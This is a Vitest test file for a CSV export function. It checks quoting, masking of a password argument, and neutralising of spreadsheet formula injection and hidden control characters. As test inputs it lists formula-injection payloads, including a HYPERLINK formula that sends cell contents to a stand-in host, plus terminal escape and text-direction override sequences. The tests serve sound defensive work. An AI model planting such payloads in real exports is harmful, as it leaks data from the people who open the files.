import { expect, test } from 'vitest';
import { csvOf } from './csv';

test('quotes what must be quoted, keeps numbers, leaves the unknown empty', () => {
  expect(csvOf(['binary', 'pid', 'exit'], [['/bin/sh -c "a, b"', 42, undefined]])).toBe(
    'binary,pid,exit\r\n"/bin/sh -c ""a, b""",42,\r\n',
  );
});

test.each([
  ...['=1+1', '+1', '-1', '@SUM(A1)', ' =1', '"=1', "'=1", '＝1', '＋1', '－1', '＠A1'],
  '=HYPERLINK("http://x/?"&A1,"ok")␊text',
])('the text %j cannot become a formula', (text) => {
  expect(csvOf(['a'], [[text]])).toContain(`'${text.replaceAll('"', '""')}`);
});

test.each([
  ['=1\n=2', "'=1␊=2"],
  ['=1\u2028=2', "'=1[U+2028]=2"],
  ['\t=1', '␉=1'],
  ['\r=1', '␍=1'],
  ['\ufeff=1', '[U+FEFF]=1'],
  ['\u001b[2J\u202e', '␛[2J[U+202E]'],
  ['--password=planted', "'--password=••••••"],
])('a cell has one line, no hidden character and no secret: %j', (text, cell) => {
  expect(csvOf(['a'], [[text]]).split('\r\n')[1]).toBe(cell.startsWith("'") ? `"${cell}"` : cell);
});

test('a head comes before the columns, one row a line', () => {
  expect(csvOf(['a'], [[1]], ['query: x', 'range: y, z'])).toBe(
    '# query: x\r\n"# range: y, z"\r\na\r\n1\r\n',
  );
});
